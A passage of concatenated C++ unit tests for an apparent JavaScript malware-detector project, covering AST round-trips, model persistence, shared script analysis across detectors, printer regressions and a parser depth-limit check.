      0x6f85b96a4d4af64dULL, 0xa7da333f97cc58d9ULL, 0x74bcada115119495ULL,
      0x499527c0a69597faULL, 0x91c0e506b96f5974ULL, 0x55d46e0d192a074cULL,
      0xd3691eed7610d6e2ULL, 0xe731c5c8205d3b78ULL, 0x30cacd0b62cd0eb0ULL,
      0x323dcc9714680177ULL,
  };
  ASSERT_EQ(pinned.size(), std::size(expected));
  for (std::size_t i = 0; i < pinned.size(); ++i) {
    const Ast ast = parse(pinned[i]);
    EXPECT_EQ(ast_fingerprint(ast.root), expected[i]) << "script " << i;
  }
}

// parse (which compacts) -> print -> reparse must preserve structure and
// fingerprint for every script, and the per-script fingerprints must be
// bit-identical whether the sweep runs at width 1, 2, or 8.
TEST(AstLayout, RoundTripPreservedAcrossThreadWidths) {
  const std::vector<std::string> sources = property_corpus();
  ASSERT_GE(sources.size(), 500u);

  std::vector<std::uint64_t> reference;
  for (const std::size_t width : {std::size_t{1}, std::size_t{2},
                                  std::size_t{8}}) {
    std::vector<std::uint64_t> fps(sources.size());
    std::vector<int> ok(sources.size(), 0);
    parallel_for_threads(width, sources.size(), [&](std::size_t i) {
      const Ast a = parse(sources[i]);
      fps[i] = ast_fingerprint(a.root);
      const Ast b = parse(print(a.root));
      ok[i] = ast_equal(a.root, b.root) &&
              ast_fingerprint(b.root) == fps[i];
    });
    for (std::size_t i = 0; i < sources.size(); ++i) {
      EXPECT_TRUE(ok[i]) << "round trip failed at width " << width
                         << " for script " << i;
    }
    if (reference.empty()) {
      reference = fps;
    } else {
      EXPECT_EQ(fps, reference) << "fingerprints diverge at width " << width;
    }
  }
}

// clone() rebuilds the tree in a fresh arena in build-mode (chunked) storage;
// compacting that clone must change neither the printed form nor the
// fingerprint, and must keep it ast_equal to the original.
TEST(AstLayout, CompactionIsObservationallyIdentity) {
  const std::vector<std::string> sources = property_corpus();
  for (std::size_t i = 0; i < sources.size(); i += 10) {
    const Ast original = parse(sources[i]);

    Ast copy;
    copy.root = clone(original.root, copy.arena);
    finalize_tree(copy.root);
    const std::uint64_t fp_before = ast_fingerprint(copy.root);
    const std::string printed_before = print(copy.root);

    copy.compact();
    EXPECT_EQ(ast_fingerprint(copy.root), fp_before) << "script " << i;
    EXPECT_EQ(print(copy.root), printed_before) << "script " << i;
    EXPECT_TRUE(ast_equal(copy.root, original.root)) << "script " << i;

    // Compaction renumbers preorder: slot, id, and parent linkage agree.
    EXPECT_EQ(copy.root->id, 0);
    EXPECT_EQ(copy.root->self, 0u);
    EXPECT_EQ(copy.root->parent, nullptr);
  }
}

// The arena gauges settle at compaction/destruction: live trees register
// their footprint, destroyed trees release it.
TEST(AstLayout, ArenaGaugesTrackLiveTrees) {
  obs::Gauge* arena_bytes = obs::metrics().gauge("ast.arena_bytes");
  obs::Gauge* atom_bytes = obs::metrics().gauge("ast.atom_bytes");
  obs::Counter* nodes_total = obs::metrics().counter("ast.nodes_total");

  const std::int64_t arena_before = arena_bytes->value();
  const std::uint64_t nodes_before = nodes_total->value();
  {
    const Ast ast = parse(
        "function f(a) { return a + 1; } var longIdentifierName = f(41);");
    EXPECT_GT(arena_bytes->value(), arena_before);
    EXPECT_GT(atom_bytes->value(), 0);
    EXPECT_GT(nodes_total->value(), nodes_before);
    EXPECT_EQ(static_cast<std::size_t>(arena_bytes->value() - arena_before),
              ast.arena.memory_bytes());
  }
  EXPECT_EQ(arena_bytes->value(), arena_before);  // released on destruction
}

}  // namespace
}  // namespace jsrev::js
