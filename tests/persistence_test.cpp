// Tests for trained-model persistence: save → load must reproduce the
// detector's behaviour bit-for-bit on every input, and malformed streams
// must fail with structured errors.
#include <gtest/gtest.h>

#include <sstream>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "ml/decision_tree.h"
#include "ml/scaler.h"
#include "util/rng.h"
#include "util/serialize.h"

namespace jsrev {
namespace {

class PersistenceFixture : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dataset::GeneratorConfig gc;
    gc.seed = 31;
    gc.benign_count = 80;
    gc.malicious_count = 80;
    corpus_ = new dataset::Corpus(dataset::generate_corpus(gc));
    Rng rng(32);
    split_ = new dataset::Split(dataset::split_corpus(*corpus_, 56, 56, rng));

    core::Config cfg;
    cfg.embed_epochs = 8;
    cfg.cluster_sample_per_class = 600;
    original_ = new core::JsRevealer(cfg);
    original_->train(split_->train);

    std::stringstream buffer;
    original_->save(buffer);
    blob_ = new std::string(buffer.str());

    restored_ = new core::JsRevealer(core::Config{});
    std::istringstream in(*blob_);
    restored_->load(in);
  }

  static void TearDownTestSuite() {
    delete restored_;
    delete blob_;
    delete original_;
    delete split_;
    delete corpus_;
    restored_ = nullptr;
    blob_ = nullptr;
    original_ = nullptr;
    split_ = nullptr;
    corpus_ = nullptr;
  }

  static dataset::Corpus* corpus_;
  static dataset::Split* split_;
  static core::JsRevealer* original_;
  static std::string* blob_;
  static core::JsRevealer* restored_;
};

dataset::Corpus* PersistenceFixture::corpus_ = nullptr;
dataset::Split* PersistenceFixture::split_ = nullptr;
core::JsRevealer* PersistenceFixture::original_ = nullptr;
std::string* PersistenceFixture::blob_ = nullptr;
core::JsRevealer* PersistenceFixture::restored_ = nullptr;

TEST_F(PersistenceFixture, VerdictsIdenticalOnTestSet) {
  for (const auto& s : split_->test.samples) {
    EXPECT_EQ(original_->classify(s.source), restored_->classify(s.source));
  }
}

TEST_F(PersistenceFixture, FeatureVectorsIdentical) {
  for (std::size_t i = 0; i < split_->test.samples.size(); i += 7) {
    EXPECT_EQ(original_->featurize(split_->test.samples[i].source),
              restored_->featurize(split_->test.samples[i].source));
  }
}

TEST_F(PersistenceFixture, MetadataPreserved) {
  EXPECT_EQ(restored_->feature_count(), original_->feature_count());
  EXPECT_EQ(restored_->clusters_removed(), original_->clusters_removed());
}

TEST_F(PersistenceFixture, FeatureReportPreserved) {
  const auto a = original_->feature_report(5);
  const auto b = restored_->feature_report(5);
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].feature_index, b[i].feature_index);
    EXPECT_DOUBLE_EQ(a[i].importance, b[i].importance);
    EXPECT_EQ(a[i].central_path, b[i].central_path);
  }
}

TEST_F(PersistenceFixture, SaveIsDeterministic) {
  std::stringstream again;
  original_->save(again);
  EXPECT_EQ(again.str(), *blob_);
}

TEST_F(PersistenceFixture, RoundTripThroughFile) {
  const std::string path = "/tmp/jsrev_model_test.bin";
  original_->save_file(path);
  core::JsRevealer from_file(core::Config{});
  from_file.load_file(path);
  EXPECT_EQ(from_file.feature_count(), original_->feature_count());
  EXPECT_EQ(from_file.classify(split_->test.samples[0].source),
            original_->classify(split_->test.samples[0].source));
}

TEST_F(PersistenceFixture, TruncatedStreamThrows) {
  for (const std::size_t cut : {std::size_t(3), blob_->size() / 2,
                                blob_->size() - 5}) {
    std::istringstream in(blob_->substr(0, cut));
    core::JsRevealer det(core::Config{});
    EXPECT_THROW(det.load(in), std::exception) << "cut=" << cut;
  }
}

TEST_F(PersistenceFixture, CorruptedMagicThrows) {
  std::string bad = *blob_;
  bad[0] = 'X';
  std::istringstream in(bad);
  core::JsRevealer det(core::Config{});
  EXPECT_THROW(det.load(in), ser::FormatError);
}

TEST(Persistence, UntrainedSaveThrows) {
  core::JsRevealer det(core::Config{});
  std::stringstream out;
  EXPECT_THROW(det.save(out), std::logic_error);
}

TEST(Persistence, NonForestClassifierSaveThrows) {
  dataset::GeneratorConfig gc;
  gc.seed = 33;
  gc.benign_count = 30;
  gc.malicious_count = 30;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  core::Config cfg;
  cfg.classifier = ml::ClassifierKind::kSvm;
  cfg.embed_epochs = 3;
  cfg.cluster_sample_per_class = 200;
  core::JsRevealer det(cfg);
  det.train(corpus);
  std::stringstream out;
  EXPECT_THROW(det.save(out), std::logic_error);
}

TEST(Persistence, ScalerRoundTrip) {
  ml::Matrix x(3, 2);
  x(0, 0) = -1;
  x(1, 0) = 0;
  x(2, 0) = 3;
  x(0, 1) = 10;
  x(1, 1) = 20;
  x(2, 1) = 15;
  ml::MinMaxScaler scaler;
  scaler.fit(x);
  std::stringstream buf;
  scaler.save(buf);
  ml::MinMaxScaler restored;
  restored.load(buf);
  double row[2] = {1.5, 12.0};
  double row2[2] = {1.5, 12.0};
  scaler.transform_row(row);
  restored.transform_row(row2);
  EXPECT_DOUBLE_EQ(row[0], row2[0]);
  EXPECT_DOUBLE_EQ(row[1], row2[1]);
}

TEST(Persistence, ForestRoundTrip) {
  Rng rng(34);
  ml::Matrix x(60, 3);
  std::vector<int> y(60);
  for (std::size_t i = 0; i < 60; ++i) {
    y[i] = i % 2;
    for (std::size_t j = 0; j < 3; ++j) {
      x(i, j) = rng.normal() + (y[i] == 1 ? 3.0 : 0.0);
    }
  }
  ml::RandomForest forest;
  forest.fit(x, y);
  std::stringstream buf;
  forest.save(buf);
  ml::RandomForest restored;
  restored.load(buf);
  for (std::size_t i = 0; i < 60; ++i) {
    EXPECT_EQ(forest.predict(x.row(i)), restored.predict(x.row(i)));
    EXPECT_DOUBLE_EQ(forest.predict_proba(x.row(i)),
                     restored.predict_proba(x.row(i)));
  }
  EXPECT_EQ(forest.feature_importances(), restored.feature_importances());
}

}  // namespace
}  // namespace jsrev
