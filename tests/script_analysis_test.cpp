// Tests for the parse-once ScriptAnalysis artifact and its integration with
// every detector: memoization (exactly one js::parse per script no matter
// how many consumers), the shared unparseable-input convention, and
// bit-identical equivalence between the string-based and analysis-based
// classification paths across obfuscators and thread widths.
#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <vector>

#include "analysis/script_analysis.h"
#include "baselines/detector.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "js/parser.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"
#include "util/thread_pool.h"

namespace jsrev {
namespace {

// Lexes fine but does not parse (CUJO still classifies it with the model).
constexpr const char* kParseBroken = "var = ;";
// Does not even lex (unterminated string): every detector rejects it.
constexpr const char* kLexBroken = "var s = 'unterminated";

TEST(ScriptAnalysis, ParseFailureIsAValue) {
  const analysis::ScriptAnalysis a(kParseBroken);
  EXPECT_TRUE(a.parse_failed());
  EXPECT_FALSE(a.parse_error().empty());
  EXPECT_EQ(a.root(), nullptr);
  EXPECT_THROW(a.scopes(), std::logic_error);
  EXPECT_THROW(a.dataflow(), std::logic_error);
  EXPECT_THROW(a.pdg(), std::logic_error);
  EXPECT_EQ(a.classify_or_malicious([] { return 0; }),
            analysis::ScriptAnalysis::kUnparseableVerdict);
}

TEST(ScriptAnalysis, ClassifyOrMaliciousRunsFnWhenParsed) {
  const analysis::ScriptAnalysis a("var x = 1;");
  EXPECT_FALSE(a.parse_failed());
  EXPECT_EQ(a.classify_or_malicious([] { return 0; }), 0);
}

TEST(ScriptAnalysis, EveryArtifactSharesOneParse) {
  const analysis::ScriptAnalysis a(
      "function f(n) { var t = n + 1; return t * 2; } f(3);");
  const std::uint64_t before = js::parse_invocations();
  EXPECT_FALSE(a.parse_failed());
  EXPECT_NE(a.root(), nullptr);
  (void)a.scopes();
  (void)a.dataflow();
  (void)a.cfgs();
  (void)a.pdg();
  (void)a.tokens();
  EXPECT_FALSE(a.parse_failed());  // re-query: still memoized
  EXPECT_EQ(js::parse_invocations() - before, 1u);
  EXPECT_GT(a.parse_ms(), 0.0);
}

TEST(ScriptAnalysis, ConcurrentConsumersShareOneParse) {
  const analysis::ScriptAnalysis a("var x = 1; var y = x + 2; use(y);");
  const std::uint64_t before = js::parse_invocations();
  parallel_for_threads(8, 64, [&](std::size_t) {
    (void)a.dataflow();
    (void)a.cfgs();
    (void)a.pdg();
  });
  EXPECT_EQ(js::parse_invocations() - before, 1u);
}

TEST(ScriptAnalysis, TokensAreIndependentOfTheParser) {
  const analysis::ScriptAnalysis a(kParseBroken);
  const std::uint64_t before = js::parse_invocations();
  ASSERT_NE(a.tokens(), nullptr);  // lexes even though it will not parse
  EXPECT_EQ(js::parse_invocations() - before, 0u);
  EXPECT_TRUE(a.parse_failed());

  const analysis::ScriptAnalysis b(kLexBroken);
  EXPECT_EQ(b.tokens(), nullptr);
  EXPECT_TRUE(b.parse_failed());
}

TEST(ScriptAnalysis, ResourceLimitTripIsAParseFailureValue) {
  // A depth bomb must become parse_failed(), never a crash: the parser's
  // depth guard converts the would-be stack overflow into a ParseError that
  // ScriptAnalysis stores like any other unparseable input.
  std::string deep;
  deep.reserve(2 * 50000 + 8);
  for (int i = 0; i < 50000; ++i) deep += "(";
  deep += "1";
  for (int i = 0; i < 50000; ++i) deep += ")";

  const analysis::ScriptAnalysis a(deep);
  EXPECT_TRUE(a.parse_failed());
  EXPECT_EQ(a.classify_or_malicious([] { return 0; }),
            analysis::ScriptAnalysis::kUnparseableVerdict);

  // Tighter per-analysis limits are honored without touching the defaults.
  js::ParseLimits tiny;
  tiny.max_source_bytes = 8;
  const analysis::ScriptAnalysis b("var xxxx = 12345;", tiny);
  EXPECT_TRUE(b.parse_failed());
}

TEST(ScriptAnalysis, DepthBombClassifiedMaliciousAtEveryThreadWidth) {
  std::string deep;
  for (int i = 0; i < 50000; ++i) deep += "(";
  deep += "1";
  for (int i = 0; i < 50000; ++i) deep += ")";

  dataset::Corpus corpus;
  corpus.samples.push_back({deep, 1, "depth-bomb", "synthetic"});
  corpus.samples.push_back({"var x = 1;", 0, "plain", "synthetic"});
  corpus.samples.push_back({kParseBroken, 1, "broken", "synthetic"});

  for (const std::size_t threads : {1u, 2u, 8u}) {
    const analysis::AnalyzedCorpus analyzed =
        detect::analyze_corpus(corpus, threads);
    ASSERT_EQ(analyzed.size(), 3u);
    EXPECT_TRUE(analyzed.scripts[0]->parse_failed()) << threads;
    EXPECT_EQ(analyzed.scripts[0]->classify_or_malicious([] { return 0; }),
              analysis::ScriptAnalysis::kUnparseableVerdict)
        << threads;
    EXPECT_FALSE(analyzed.scripts[1]->parse_failed()) << threads;
    EXPECT_TRUE(analyzed.scripts[2]->parse_failed()) << threads;
  }
}

// ---------------------------------------------------------------------------
// Trained-detector fixtures (built once: training dominates test runtime).

core::Config small_config(std::size_t threads) {
  core::Config c;
  c.seed = 17;
  c.threads = threads;
  c.lint_features = true;  // exercise the shared lint tail
  c.embed_epochs = 4;
  c.embedding_dim = 32;
  c.cluster_sample_per_class = 200;
  return c;
}

struct SharedFixture {
  dataset::Corpus train;
  dataset::Corpus merged;  // test set + each obfuscator's transform of it
  std::unique_ptr<core::JsRevealer> jsrevealer;  // threads=1
  std::vector<std::unique_ptr<detect::Detector>> baselines;

  static const SharedFixture& instance() {
    static const SharedFixture f = [] {
      SharedFixture fx;
      dataset::GeneratorConfig gc;
      gc.seed = 77;
      gc.benign_count = 60;
      gc.malicious_count = 60;
      const dataset::Corpus corpus = dataset::generate_corpus(gc);
      Rng rng(gc.seed);
      const dataset::Split split = dataset::split_corpus(corpus, 35, 35, rng);
      fx.train = split.train;

      fx.merged = split.test;
      for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
        const auto obfuscator = obf::make_obfuscator(kind);
        Rng orng(gc.seed ^ 0x5555);
        for (const auto& s : split.test.samples) {
          dataset::Sample t = s;
          try {
            t.source = obfuscator->obfuscate(t.source, orng());
          } catch (const std::exception&) {
            // keep the original on transform failure
          }
          fx.merged.samples.push_back(std::move(t));
        }
      }

      fx.jsrevealer = std::make_unique<core::JsRevealer>(small_config(1));
      fx.jsrevealer->train(fx.train);
      for (const detect::BaselineKind kind : detect::kAllBaselines) {
        fx.baselines.push_back(detect::make_baseline(kind, gc.seed));
        fx.baselines.back()->train(fx.train);
      }
      return fx;
    }();
    return f;
  }
};

// Satellite: the "unparseable ⇒ malicious" convention is honored by all
// five detectors through one shared helper — a script no frontend accepts
// gets the same verdict everywhere.
TEST(SharedAnalysisIntegration, AllFiveDetectorsAgreeOnBrokenScript) {
  const SharedFixture& f = SharedFixture::instance();
  const analysis::ScriptAnalysis broken(kLexBroken);
  EXPECT_EQ(f.jsrevealer->classify(broken),
            analysis::ScriptAnalysis::kUnparseableVerdict);
  EXPECT_EQ(f.jsrevealer->classify(std::string(kLexBroken)),
            analysis::ScriptAnalysis::kUnparseableVerdict);
  for (const auto& d : f.baselines) {
    EXPECT_EQ(d->classify(broken),
              analysis::ScriptAnalysis::kUnparseableVerdict)
        << d->name();
    EXPECT_EQ(d->classify(std::string(kLexBroken)),
              analysis::ScriptAnalysis::kUnparseableVerdict)
        << d->name();
  }
}

// Equivalence: string-based and ScriptAnalysis-based classification are
// bit-identical for every detector over >= 200 generated scripts spanning
// all four obfuscators, and for JSRevealer at thread widths 1, 2 and 8.
TEST(SharedAnalysisIntegration, StringAndAnalysisPathsAreBitIdentical) {
  const SharedFixture& f = SharedFixture::instance();
  ASSERT_GE(f.merged.samples.size(), 200u);

  const analysis::AnalyzedCorpus analyzed = detect::analyze_corpus(f.merged);
  std::vector<std::string> sources;
  sources.reserve(f.merged.samples.size());
  for (const auto& s : f.merged.samples) sources.push_back(s.source);

  for (const auto& d : f.baselines) {
    for (std::size_t i = 0; i < sources.size(); ++i) {
      EXPECT_EQ(d->classify(sources[i]), d->classify(*analyzed.scripts[i]))
          << d->name() << " script " << i;
    }
  }

  const std::vector<int> reference = f.jsrevealer->classify_all(sources);
  ASSERT_EQ(reference.size(), sources.size());
  for (const std::size_t threads : {std::size_t{1}, std::size_t{2},
                                    std::size_t{8}}) {
    const core::JsRevealer* det = f.jsrevealer.get();
    std::unique_ptr<core::JsRevealer> local;
    if (threads != 1) {
      // Training is bit-identical at any width, so a fresh instance at this
      // width must reproduce the width-1 verdicts exactly.
      local = std::make_unique<core::JsRevealer>(small_config(threads));
      local->train(f.train);
      det = local.get();
    }
    EXPECT_EQ(det->classify_all(sources), reference) << "threads=" << threads;
    EXPECT_EQ(det->classify_all(analyzed), reference) << "threads=" << threads;
  }
}

// Acceptance: featurize() with lint features on parses exactly once — the
// lint tail rides the same ScriptAnalysis as path extraction.
TEST(SharedAnalysisIntegration, FeaturizeParsesExactlyOnce) {
  const SharedFixture& f = SharedFixture::instance();
  ASSERT_GT(f.jsrevealer->lint_feature_count(), 0u);
  const std::string& source = f.merged.samples.front().source;
  const std::uint64_t before = js::parse_invocations();
  const std::vector<double> features = f.jsrevealer->featurize(source);
  EXPECT_EQ(js::parse_invocations() - before, 1u);
  EXPECT_EQ(features.size(), f.jsrevealer->feature_count());
}

// Acceptance: a five-detector evaluation over a shared AnalyzedCorpus
// parses each script exactly once (in analyze_corpus) and never again.
TEST(SharedAnalysisIntegration, MultiDetectorEvaluationParsesOncePerScript) {
  const SharedFixture& f = SharedFixture::instance();
  dataset::Corpus subset;
  subset.samples.assign(f.merged.samples.begin(),
                        f.merged.samples.begin() + 40);

  const std::uint64_t before_build = js::parse_invocations();
  const analysis::AnalyzedCorpus analyzed = detect::analyze_corpus(subset);
  EXPECT_EQ(js::parse_invocations() - before_build, subset.samples.size());

  const std::uint64_t before_eval = js::parse_invocations();
  (void)f.jsrevealer->evaluate(analyzed);
  for (const auto& d : f.baselines) (void)d->evaluate(analyzed);
  EXPECT_EQ(js::parse_invocations() - before_eval, 0u);
}

}  // namespace
}  // namespace jsrev
