#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "js/ast_compare.h"
#include "js/parser.h"
#include "js/printer.h"
#include "js/visitor.h"

namespace jsrev::js {
namespace {

void expect_roundtrip(const std::string& src) {
  const Ast first = parse(src);
  const std::string pretty = print(first.root, PrintStyle::kPretty);
  const Ast second = parse(pretty);
  EXPECT_TRUE(ast_equal(first.root, second.root))
      << "pretty round-trip failed\nsource: " << src
      << "\nprinted: " << pretty;

  const std::string mini = print(first.root, PrintStyle::kMinified);
  const Ast third = parse(mini);
  EXPECT_TRUE(ast_equal(first.root, third.root))
      << "minified round-trip failed\nsource: " << src
      << "\nprinted: " << mini;
}

TEST(Printer, SurrogatePairStringsRoundTrip) {
  // Astral code points entered as \uXXXX surrogate pairs must survive
  // print -> reparse with the same tree: the lexer pairs them into one
  // code point, and whatever spelling the printer chooses must decode
  // back to that code point.
  expect_roundtrip(R"(var emoji = "\uD83D\uDE00";)");
  expect_roundtrip(R"(var first = "\uD800\uDC00";)");
  expect_roundtrip(R"(var last = "\uDBFF\uDFFF";)");
  expect_roundtrip(R"(var mixed = "a\uD83D\uDE00b\u4E2Dc";)");
  // Lone surrogates (CESU-8 payloads) round-trip unchanged too.
  expect_roundtrip(R"(var lone = "\uD83Dx";)");
}

TEST(Printer, SimpleStatements) {
  expect_roundtrip("var x = 1;");
  expect_roundtrip("let y = \"s\";");
  expect_roundtrip("const z = true;");
  expect_roundtrip(";");
  expect_roundtrip("debugger;");
}

TEST(Printer, Expressions) {
  expect_roundtrip("r = 1 + 2 * 3;");
  expect_roundtrip("r = (1 + 2) * 3;");
  expect_roundtrip("r = a - b - c;");
  expect_roundtrip("r = a - (b - c);");
  expect_roundtrip("r = a / b / c;");
  expect_roundtrip("r = a % (b * c);");
}

TEST(Printer, UnaryEdgeCases) {
  expect_roundtrip("r = -x;");
  expect_roundtrip("r = - -x;");
  expect_roundtrip("r = +(+x);");
  expect_roundtrip("r = typeof typeof x;");
  expect_roundtrip("r = !(a && b);");
  expect_roundtrip("r = ~x + 1;");
  expect_roundtrip("delete obj.prop;");
  expect_roundtrip("r = void 0;");
}

TEST(Printer, UpdateExpressions) {
  expect_roundtrip("++i;");
  expect_roundtrip("i++;");
  expect_roundtrip("r = ++a + b++;");
}

// Regressions found by tools/jsr_fuzz: minified output must not glue two
// tokens into one (`a - -1` → `a--1`), turn a division into a regex start
// (`(fn) / d` → `...}/d`), or let a trailing dot be absorbed into a number
// (`(758).length` → `758.length`).
TEST(Printer, TokenGlueRegressions) {
  expect_roundtrip("r = a - -1;");
  expect_roundtrip("r = a + +b;");
  expect_roundtrip("r = a + ++b;");
  expect_roundtrip("r = a - --b;");
  expect_roundtrip("r = a-- - b;");
  expect_roundtrip("code = (code - -893 + 256) % 256;");
  expect_roundtrip("r = (function () { return 1; }) / 2;");
  expect_roundtrip("var p = ((t) => { return t; }) / d;");
  expect_roundtrip("r = ({x: 1}) / 2;");
  expect_roundtrip("r = (758).length;");
  expect_roundtrip("r = (3.5).toFixed(1);");
}

TEST(Printer, OverflowingNumericLiteralStaysALiteral) {
  // `1e999` overflows to +inf; printing it as the identifier `Infinity`
  // would change the node kind on reparse.
  expect_roundtrip("var i = 1e999;");
  const Ast ast = parse("var i = 1e999;");
  const std::string printed = print(ast.root, PrintStyle::kMinified);
  EXPECT_NE(printed.find("1e999"), std::string::npos) << printed;
  EXPECT_EQ(printed.find("Infinity"), std::string::npos) << printed;
}

TEST(Printer, LogicalAndConditional) {
  expect_roundtrip("r = a && b || c;");
  expect_roundtrip("r = a && (b || c);");
  expect_roundtrip("r = a ? b : c ? d : e;");
  expect_roundtrip("r = (a ? b : c) ? d : e;");
}

TEST(Printer, AssignmentChains) {
  expect_roundtrip("a = b = c;");
  expect_roundtrip("a += b -= c;");
  expect_roundtrip("a[0] = b.c = 3;");
}

TEST(Printer, MemberAndCalls) {
  expect_roundtrip("obj.a.b.c;");
  expect_roundtrip("obj[a][b];");
  expect_roundtrip("f(1)(2)(3);");
  expect_roundtrip("a.b(c).d(e);");
  expect_roundtrip("(a + b).toString();");
}

TEST(Printer, NewExpressions) {
  expect_roundtrip("var d = new Date();");
  expect_roundtrip("var x = new ns.Thing(1, 2);");
  expect_roundtrip("var y = new Date;");
}

TEST(Printer, Literals) {
  expect_roundtrip("var a = [1, 2, 3];");
  expect_roundtrip("var b = [];");
  expect_roundtrip("var c = {x: 1, \"y\": 2, 3: z};");
  expect_roundtrip("var d = {};");
  expect_roundtrip("var e = \"a\\nb\\\"c\";");
  expect_roundtrip("var f = /ab+/gi;");
  expect_roundtrip("var g = null;");
  expect_roundtrip("var h = 3.25;");
  expect_roundtrip("var i = 1e21;");
}

TEST(Printer, ControlFlow) {
  expect_roundtrip("if (a) b();");
  expect_roundtrip("if (a) { b(); } else { c(); }");
  expect_roundtrip("if (a) b(); else if (c) d(); else e();");
  expect_roundtrip("while (a) { b(); }");
  expect_roundtrip("do { a(); } while (b);");
  expect_roundtrip("for (var i = 0; i < 10; i++) work(i);");
  expect_roundtrip("for (;;) { break; }");
  expect_roundtrip("for (var k in o) { use(k); }");
  expect_roundtrip("for (var v of xs) { use(v); }");
  expect_roundtrip("for (i = 0, j = 9; i < j; i++, j--) swap(i, j);");
}

TEST(Printer, SwitchTryThrow) {
  expect_roundtrip(
      "switch (x) { case 1: a(); break; default: b(); }");
  expect_roundtrip("try { a(); } catch (e) { b(e); }");
  expect_roundtrip("try { a(); } finally { c(); }");
  expect_roundtrip("try { a(); } catch (e) { b(); } finally { c(); }");
  expect_roundtrip("throw new Error(\"boom\");");
}

TEST(Printer, Functions) {
  expect_roundtrip("function f() { return; }");
  expect_roundtrip("function add(a, b) { return a + b; }");
  expect_roundtrip("var f = function() { return 1; };");
  expect_roundtrip("var g = function named(n) { return n && named(n - 1); };");
  expect_roundtrip("(function() { var x = 1; })();");
  expect_roundtrip("var h = x => x * 2;");
  expect_roundtrip("var k = (a, b) => { return a + b; };");
}

TEST(Printer, LabeledAndWith) {
  expect_roundtrip("loop: for (;;) { break loop; }");
  expect_roundtrip("with (o) { a = b; }");
}

TEST(Printer, SequenceExpressionRoundTrip) {
  expect_roundtrip("r = (a, b, c);");
  expect_roundtrip("f((a, b), c);");
}

TEST(Printer, ExpressionStatementGuards) {
  // Object literal / function expression at statement start need parens.
  const Ast ast = parse("({a: 1});");
  const std::string out = print(ast.root);
  EXPECT_TRUE(parses_ok(out)) << out;
}

TEST(Printer, MinifiedIsCompact) {
  const Ast ast = parse("var x = 1;   \n  var y = 2;\n");
  const std::string mini = print(ast.root, PrintStyle::kMinified);
  EXPECT_EQ(mini.find('\n'), std::string::npos);
  EXPECT_TRUE(parses_ok(mini));
}

TEST(Printer, NumberFormats) {
  expect_roundtrip("var a = 0;");
  expect_roundtrip("var b = 1000000;");
  expect_roundtrip("var c = 0.001;");
  expect_roundtrip("var d = 123456789012345;");
}

TEST(Printer, NestedFunctionsAndClosures) {
  expect_roundtrip(R"(
    function outer() {
      var state = 0;
      return function inner(x) {
        state += x;
        return state;
      };
    }
  )");
}

TEST(Printer, ComplexRealisticProgram) {
  expect_roundtrip(R"(
    var config = {retries: 3, timeout: 1000, verbose: false};
    function fetchData(url, cb) {
      var attempts = 0;
      function attempt() {
        attempts++;
        if (attempts > config.retries) {
          cb(new Error("too many retries"), null);
          return;
        }
        send(url, function(err, data) {
          if (err) { attempt(); } else { cb(null, data); }
        });
      }
      attempt();
    }
    for (var i = 0; i < urls.length; i++) {
      fetchData(urls[i], function(e, d) { results.push(d); });
    }
  )");
}

// Property sweep: a battery of generated nesting shapes must round-trip.
class PrinterSweep : public ::testing::TestWithParam<int> {};

TEST_P(PrinterSweep, RoundTripGeneratedNesting) {
  const int depth = GetParam();
  std::string src = "function f0(x) { return x; }\n";
  for (int i = 1; i <= depth; ++i) {
    src += "function f" + std::to_string(i) + "(x) { if (x > " +
           std::to_string(i) + ") { return f" + std::to_string(i - 1) +
           "(x - 1) * " + std::to_string(i) + "; } else { return x + " +
           std::to_string(i) + "; } }\n";
  }
  expect_roundtrip(src);
}

INSTANTIATE_TEST_SUITE_P(Depths, PrinterSweep,
                         ::testing::Values(1, 2, 4, 8, 16, 32));

}  // namespace
}  // namespace jsrev::js
