// End-to-end integration tests across modules: the full experiment harness
// (generate → split → obfuscate → train → evaluate) exercised at small
// scale, plus cross-module invariants that only appear when the whole
// pipeline runs.
#include <gtest/gtest.h>

#include "harness.h"
#include "js/parser.h"
#include "util/rng.h"

namespace jsrev::bench {
namespace {

HarnessConfig tiny_config() {
  HarnessConfig cfg;
  cfg.benign_count = 70;
  cfg.malicious_count = 70;
  cfg.train_per_class = 48;
  cfg.repeats = 1;
  cfg.jsrevealer.embed_epochs = 6;
  cfg.jsrevealer.cluster_sample_per_class = 500;
  return cfg;
}

TEST(Harness, ObfuscateCorpusPreservesLabelsAndCount) {
  dataset::GeneratorConfig gc;
  gc.benign_count = 30;
  gc.malicious_count = 30;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const dataset::Corpus out = obfuscate_corpus(corpus, kind, 5);
    ASSERT_EQ(out.size(), corpus.size());
    int changed = 0;
    for (std::size_t i = 0; i < out.size(); ++i) {
      EXPECT_EQ(out.samples[i].label, corpus.samples[i].label);
      EXPECT_TRUE(js::parses_ok(out.samples[i].source));
      changed += out.samples[i].source != corpus.samples[i].source;
    }
    // The transform must have actually done something on most samples.
    EXPECT_GT(changed, static_cast<int>(out.size() / 2))
        << obf::obfuscator_kind_name(kind);
  }
}

TEST(Harness, RunGridProducesAllCells) {
  const HarnessConfig cfg = tiny_config();
  const ResultGrid grid = run_grid(cfg, {jsrevealer_factory(cfg)});
  ASSERT_EQ(grid.size(), 1u);
  const auto& by_cond = grid.begin()->second;
  ASSERT_EQ(by_cond.size(), condition_names().size());
  for (const auto& cond : condition_names()) {
    const ml::Metrics& m = by_cond.at(cond);
    // Metrics must be self-consistent probabilities.
    EXPECT_GE(m.accuracy, 0.0);
    EXPECT_LE(m.accuracy, 1.0);
    EXPECT_GE(m.f1, 0.0);
    EXPECT_LE(m.f1, 1.0);
    // Rates are internally consistent: accuracy cannot exceed 1 - the two
    // error rates' class-weighted floor; cheap sanity: all in [0,1].
    EXPECT_GE(m.fpr, 0.0);
    EXPECT_LE(m.fpr, 1.0);
    EXPECT_GE(m.fnr, 0.0);
    EXPECT_LE(m.fnr, 1.0);
  }
}

TEST(Harness, BaselineConditionIsEasierThanObfuscated) {
